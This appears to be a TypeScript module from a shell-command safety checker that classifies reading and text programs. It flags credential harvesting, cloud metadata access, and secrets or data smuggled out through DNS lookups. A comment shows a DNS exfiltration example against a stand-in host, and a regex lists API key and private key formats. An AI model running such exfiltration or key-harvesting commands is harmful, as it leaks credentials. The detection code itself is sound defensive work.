import { assessRead, assessWrite } from './file-effects.ts';
import { hostOf, isMetadataHost, isSecretName, isUrl } from './hosts.ts';
import { assessAwk, assessAwkNames, assessSed } from './inline-awk.ts';
import { hasOption, optionValue, parseOptions } from './options.ts';
import { noteAssembled } from './own-lists.ts';
import { rewritten } from './rewrite-text.ts';
import type { Judge } from './run-command.ts';
import { type Call, describe, type Scope } from './scope.ts';
import {
  isKnown,
  joinValues,
  literal,
  UNKNOWN,
  unknown,
  type Value,
  withOrigins,
} from './value.ts';

/** Programs that only look at names, sizes, dates, the machine or their own text. */
const quiet =
  'true false : sleep seq date cal yes expr basename dirname ls ll la dir vdir stat file test [ du df tree exa eza which whereis type realpath readlink pwd ' +
  'man help info apropos whatis tldr wc sha1sum sha224sum sha256sum sha384sum sha512sum shasum md5sum md5 cksum sum b2sum crc32 ' +
  'ps top htop uptime whoami id groups uname hostname arch nproc free vmstat iostat mpstat lscpu lsblk lsusb lspci lsof pgrep pidof pstree ' +
  'locale tput clear stty tty logname users w who last lastlog nl_langinfo getconf ulimit times jobs wait hash bc dc factor numfmt cmp ' +
  'let return exit break continue logout getopts complete compgen bind caller dirs umask fg bg disown shopt suspend ' +
  'dig nslookup host whois ping ping6 traceroute tracepath mtr ifconfig netstat ss arp getfacl lsattr findmnt blkid locate mdfind ' +
  'sar iotop atop btop glances nvidia-smi sensors lshw dmidecode pg_isready stern tig resolvectl getenforce ' +
  'sw_vers system_profiler xcode-select pkg-config ldd nm objdump readelf size otool addr2line cowsay figlet fortune banner';

/** Programs that print or digest what is in files. */
const readers =
  'cat tac less more most head tail bat batcat nl od hexdump strings grep egrep fgrep zgrep rg ag ack sort uniq cut paste join comm diff diff3 ' +
  'colordiff sdiff vimdiff delta column fold fmt expand unexpand rev tr jq yq xq gron fx xmllint base64 base32 basenc zcat bzcat xzcat zless ' +
  'view csvcut csvlook csvgrep csvstat mlr glow look pr tsort shuf iconv dos2unix html2text pandoc pdftotext exiftool identify ffprobe plutil ' +
  'lnav ccze jc xsv qsv kubeconform kubeval kube-score kube-linter conftest pluto polaris datree ' +
  'mdcat highlight pygmentize tokei cloc scc wdiff icdiff difft jless dasel hexyl pigz unxz zstdcat lz4cat';

/** Programs that print what they read, line by line. */
const passing = new Set('cat head tail tac sort grep'.split(' '));

/** Programs that turn text into other text, so that what comes out was assembled. */
const assembling = new Set('tr rev cut fold paste iconv sed awk expand fmt'.split(' '));

const judgeQuiet: Judge = (call, scope) => {
  // They print nothing, so that what they are sent into is emptied.
  if ([':', 'true', 'false', 'sleep'].includes(call.program)) return literal('');
  // Processes picked by name or port are the agent's own business, unlike a list of all of them.
  if (['lsof', 'pgrep', 'pidof', 'jobs'].includes(call.program)) return unknown();
  if (call.program === 'hostname' && call.args.some(({ text }) => !text.startsWith('-'))) {
    scope.change();
  }
  if (['which', 'whereis', 'type'].includes(call.program)) return whereabouts(call.args);
  if (['dig', 'nslookup', 'host', 'ping', 'whois'].includes(call.program)) assessLeak(call, scope);
  return undefined;
};

/** `$(which program)` runs the program. */
export function whereabouts(args: readonly Value[]): Value {
  const names = args.filter(arg => !arg.text.startsWith('-'));
  const [name] = names;
  return name !== undefined && names.length === 1 && isKnown(name) ? name : unknown();
}

/** Programs of this list that write a file where they are told its name. */
const writingReaders = new Set('pandoc iconv xmllint pdftotext html2text'.split(' '));
/** Programs that put the unpacked file in place of the packed one. */
const unpackers = new Set('gunzip unxz pigz'.split(' '));

/** Whether a program that reads also leaves a file behind. */
function leavesFile({ program, args }: Call): boolean {
  const options = parseOptions(args, { short: 'ofts', long: ['output', 'from', 'to'] });
  const { operands } = options;
  if (unpackers.has(program)) {
    return operands.length > 0 && !hasOption(options, 'c', 'stdout', 'to-stdout', 'l', 'list');
  }
  if (program === 'pdftotext') return operands[1]?.text !== '-';
  return writingReaders.has(program) && hasOption(options, 'o', 'output');
}

const judgeReader: Judge = (call, scope) => {
  if (leavesFile(call)) scope.change();
  return editsInPlace(call) ? judgeEdit(call, scope) : judgeReading(call, scope);
};

const judgeEdit: Judge = ({ program, args }, scope) => {
  for (const file of args.slice(1))
    if (!file.text.startsWith('-') && !/[\s|=]/u.test(file.text))
      assessWrite(scope, file, { by: program, replaces: false });
  return literal('');
};

const judgeReading: Judge = (call, scope) => {
  const { program, args, stdin } = call;
  if (digsForKeys(call)) scope.find('secret_access', 'high', describe(call, 'prints keys'));
  const { isSecret, contents } = readOperands(call, scope);
  const flags = parseOptions(args, { short: 'nceidfk' });
  if (
    program.startsWith('base') &&
    (hasOption(flags, 'decode', 'D') || args.some(a => /^-[a-zA-Z]{0,3}d/u.test(a.text)))
  ) {
    return unknown([...originsOf(call, contents), 'encoded']);
  }
  const source = contents.length > 0 ? joinValues(contents, '\n') : (stdin ?? unknown());
  const found = filesWith(call);
  if (found !== null) return { ...unknown(['generated']), stream: found };
  const known = isKnown(source);
  const text = rewritten(call, source);
  if (text !== null) return withOrigins(text, 'encoded');
  if (known && assembling.has(program)) noteAssembled(call, source, scope);
  const packs = /^(?:base64|base32|od|hexdump)$/u.test(program);
  const output = passing.has(program)
    ? source
    : unknown(packs ? [...source.origins, 'generated'] : source.origins);
  const made = known && assembling.has(program) ? withOrigins(output, 'encoded') : output;
  return isSecret ? withOrigins(made, 'secret') : made;
};

/** `grep -rl word src` prints names of files below `src`. */
function filesWith({ program, args }: Call): Value | null {
  if (!/^([ef]?grep|rg|ag|ack)$/u.test(program)) return null;
  if (!args.some(({ text }) => /^(-[a-zA-Z]{0,6}l[a-zA-Z]{0,6}|--files-with-matches)$/u.test(text)))
    return null;
  const [, ...folders] = args.filter(({ text }) => !text.startsWith('-'));
  if (folders.some(folder => !isKnown(folder))) return null;
  return { ...joinValues(folders.length > 0 ? folders : [literal('.')], '\n'), glob: true };
}

/** Programs of this table that can also write what they read. */
function editsInPlace({ program, args }: Call): boolean {
  const has = (pattern: RegExp) => args.some(arg => pattern.test(arg.text));
  if (program === 'yq' || program === 'xq') return has(/^(-[a-zA-Z]{0,3}i|--in-?place)/u);
  if (program === 'dasel') return has(/^(put|delete)$/u);
  if (program === 'plutil') return has(/^-(replace|insert|remove|convert)$/u);
  if (program === 'sort') return has(/^(-o|--output)/u);
  return program === 'dos2unix' || program === 'exiftool';
}

/** Programs that do nothing to the files they are given, apart from the options above. */
export const readingPrograms: ReadonlySet<string> = new Set(`${quiet} ${readers}`.split(' '));

function originsOf(call: Call, contents: readonly Value[]) {
  return [...(call.stdin ? [call.stdin] : []), ...contents].flatMap(value => [...value.origins]);
}

const keyForms =
  /(?:sk|rk)_live_|AKIA|ASIA|gh[pousr]_|github_pat_|xox[abp]|glpat-|AIza|sk-(?:ant|proj)|PRIVATE KEY|eyJ/u;

/** `grep -o 'sk_live_[a-z]*'`: prints the keys themselves, and not where they stand. */
function digsForKeys({ program, args }: Call): boolean {
  if (!/^([efz]?grep|rg|ag|ack)$/u.test(program)) return false;
  const only = args.some(({ text }) =>
    /^-[a-zA-Z]{0,6}o[a-zA-Z]{0,6}$|^--only-matching$/u.test(text),
  );
  // The lines after the first line of a private key are the key.
  const below = args.some(({ text }) => /^-[AC][0-9]{0,4}$|^--(after-)?context/u.test(text));
  const asks = (form: RegExp) => args.some(({ text }) => form.test(text.slice(0, 400)));
  return (only && asks(keyForms)) || (below && asks(/PRIVATE KEY/u));
}

/** Reads every operand that names a file, and gives what the script is known to have put there. */
function readOperands(call: Call, scope: Scope): { isSecret: boolean; contents: Value[] } {
  const contents: Value[] = [];
  let isSecret = false;
  let skipsPattern = /^(e|f|z)?grep$|^rg$|^ag$|^ack$|^jq$|^yq$|^tr$/u.test(call.program);
  for (const arg of call.args) {
    if (arg.text.startsWith('-') && arg.text.length > 1) {
      // Values glued to options may name a file as well: `--file=.env`.
      const value = arg.text.slice(arg.text.indexOf('=') + 1);
      if (arg.text.includes('=') && assessRead(scope, { ...arg, text: value }, call.program))
        isSecret = true;
      if (/^-(e|-regexp)/u.test(arg.text)) skipsPattern = false;
      continue;
    }
    if (skipsPattern) {
      skipsPattern = false;
      continue;
    }
    if (arg.stream) contents.push(arg.stream);
    else if (assessRead(scope, arg, call.program)) isSecret = true;
    const written = scope.written(scope.path(arg));
    if (scope.path(arg).text === '/dev/null') contents.push(literal(''));
    else if (written) contents.push(written);
    else if (!arg.stream && call.program === 'cat')
      contents.push({ ...unknown(), file: scope.path(arg).text });
  }
  return { isSecret, contents };
}

const judgeEcho: Judge = ({ args, program }, scope) => {
  for (const arg of args) {
    if (arg.variables.some(isSecretName))
      scope.find('secret_access', 'high', `${program} prints a credential from a variable`);
  }
  const isSecret = args.some(arg => arg.variables.some(isSecretName));
  const output = program === 'echo' ? echoed(args) : formatted(args);
  if (program === 'printf' && args[0]?.text === '-v') {
    scope.assign(args[1]?.text ?? '', [formatted(args.slice(2))]);
    return literal('');
  }
  return isSecret ? withOrigins(output, 'secret') : output;
};

function echoed(args: readonly Value[]): Value {
  let first = 0;
  let escapes = false;
  while (/^-[neE]{1,3}$/u.test(args[first]?.text ?? '')) {
    escapes ||= (args[first]?.text ?? '').includes('e');
    first++;
  }
  const words = args.slice(first);
  if (words.length === 0) return literal(first > 0 ? '' : '\n');
  const line = joinValues(words, ' ');
  return escapes ? unescaped(line) : line;
}

/** `printf` with `%s`, `%b` and escapes; other directives leave the text as it is, which hides nothing. */
function formatted(args: readonly Value[]): Value {
  const start = args[0]?.text === '--' ? 1 : 0;
  const format = args[start];
  if (format === undefined) return literal('');
  const rest = args.slice(start + 1);
  const all = joinValues([format, ...rest], ' ');
  let next = 0;
  const pieces = format.text.split('%s');
  if (pieces.length > 64) return unknown(all.origins);
  let text = pieces[0] ?? '';
  for (const piece of pieces.slice(1)) text += (rest[next++]?.text ?? '') + piece;
  if (pieces.length === 2)
    for (const extra of rest.slice(next, next + 256)) text += extra.text + (pieces[1] ?? '');
  text = text.replace(/%b/gu, () => rest[next++]?.text ?? '');
  return unescaped({ ...all, text });
}

/** Resolves backslash escapes; text spelt in numbers was spelt so to hide it. */
function unescaped(value: Value): Value {
  const isSpelt = /\\(x[0-9a-fA-F]|[0-7]{2}|u[0-9a-fA-F])/u.test(value.text);
  const text = value.text
    .replace(/\\x([0-9a-fA-F]{1,2})/gu, (_, hex: string) =>
      String.fromCharCode(Number.parseInt(hex, 16)),
    )
    .replace(/\\u([0-9a-fA-F]{1,4})/gu, (_, hex: string) =>
      String.fromCharCode(Number.parseInt(hex, 16)),
    )
    .replace(/\\0?([0-7]{1,3})/gu, (_, octal: string) =>
      String.fromCharCode(Number.parseInt(octal, 8) & 0xff),
    )
    .replaceAll('\\n', '\n')
    .replaceAll('\\t', '\t');
  return isSpelt ? withOrigins({ ...value, text }, 'encoded') : { ...value, text };
}

const judgeAwk: Judge = (call, scope) => {
  const options = parseOptions(call.args, {
    short: 'Ffvi',
    long: ['field-separator', 'file', 'assign', 'include'],
    stopAtOperand: true,
  });
  const program = optionValue(options, 'f', 'file') ? undefined : options.operands[0];
  if (program) {
    assessAwk(program, scope);
    assessAwkNames(program, scope);
  }
  const files = options.operands.slice(program ? 1 : 0);
  if (optionValue(options, 'i', 'include')?.text === 'inplace')
    for (const file of files)
      assessWrite(scope, file, {
        by: `${call.program} -i inplace`,
        replaces: scope.path(file).place !== 'project',
      });
  assessOperands({ ...call, args: files }, scope);
  return undefined;
};

const judgeSed: Judge = (call, scope) => {
  const secret = assessSed(call, scope);
  const text = rewritten(call, call.stdin);
  if (text !== null) return withOrigins(text, 'encoded');
  const known = call.stdin !== null && isKnown(call.stdin);
  if (known && call.stdin !== null) noteAssembled(call, call.stdin, scope);
  const origins = originsOf(call, []);
  return unknown([
    ...origins,
    ...(known ? (['encoded'] as const) : []),
    ...(secret ? (['secret'] as const) : []),
  ]);
};

/** Hidden in a name that is looked up, a secret leaves without any connection. */
function assessLeak(call: Call, scope: Scope): void {
  if (call.args.some(arg => arg.origins.has('secret') || arg.variables.some(isSecretName)))
    scope.find('secret_leaving', 'critical', `${call.program} carries a secret in a name`);
  // `dig "$(base64 file).x.example"`: the name that is asked for carries what was read.
  else if (call.args.some(arg => arg.origins.has('generated') && carriesText(arg)))
    scope.find('data_leaving', 'high', `${call.program} carries the output of a command in a name`);
}

function carriesText({ text }: Value): boolean {
  return new RegExp(`${UNKNOWN}[\\w-]{0,40}\\.[\\w-]{1,60}\\.`, 'u').test(text);
}

/** Looks at the operands of a program that reads its files, or may: secrets and addresses of credentials. */
export function assessOperands(call: Call, scope: Scope): boolean {
  let isSecret = false;
  for (const arg of call.args.slice(0, 200)) {
    const { text } = arg;
    const value =
      text.startsWith('-') && text.includes('=') ? text.slice(text.indexOf('=') + 1) : text;
    if (text.startsWith('-') && value === text) continue;
    if (assessAddress(value, scope, call.program)) isSecret = true;
    else if (!isUrl(value) && assessRead(scope, { ...arg, text: value }, call.program))
      isSecret = true;
  }
  return isSecret;
}

/** True if the word is, or holds, the address from which a machine gets its credentials. */
export function assessAddress(text: string, scope: Scope, by: string): boolean {
  const isAddress = isUrl(text) || /^[\w.:[\]-]{1,80}(\/|$)/u.test(text);
  if (!isAddress || !isMetadataHost(hostOf(text))) return false;
  scope.find(
    'secret_access',
    'critical',
    `${by}: credentials of the machine from the cloud metadata service`,
  );
  return true;
}

export const textPrograms: Readonly<Record<string, Judge>> = {
  ...Object.fromEntries(quiet.split(' ').map(name => [name, judgeQuiet])),
  ...Object.fromEntries(readers.split(' ').map(name => [name, judgeReader])),
  echo: judgeEcho,
  printf: judgeEcho,
  awk: judgeAwk,
  gawk: judgeAwk,
  mawk: judgeAwk,
  nawk: judgeAwk,
  sed: judgeSed,
  gsed: judgeSed,
  xxd: (call, scope) => {
    const { isSecret } = readOperands(call, scope);
    const isReverse = call.args.some(arg => /^-[a-z]{0,3}r/u.test(arg.text));
    return unknown([
      ...originsOf(call, []),
      ...(isReverse ? (['encoded'] as const) : (['generated'] as const)),
      ...(isSecret ? (['secret'] as const) : []),
    ]);
  },
  uudecode: call => unknown([...originsOf(call, []), 'encoded']),
  gunzip(call, scope) {
    if (leavesFile(call)) scope.change();
    return unknown([...originsOf(call, []), 'encoded']);
  },
};
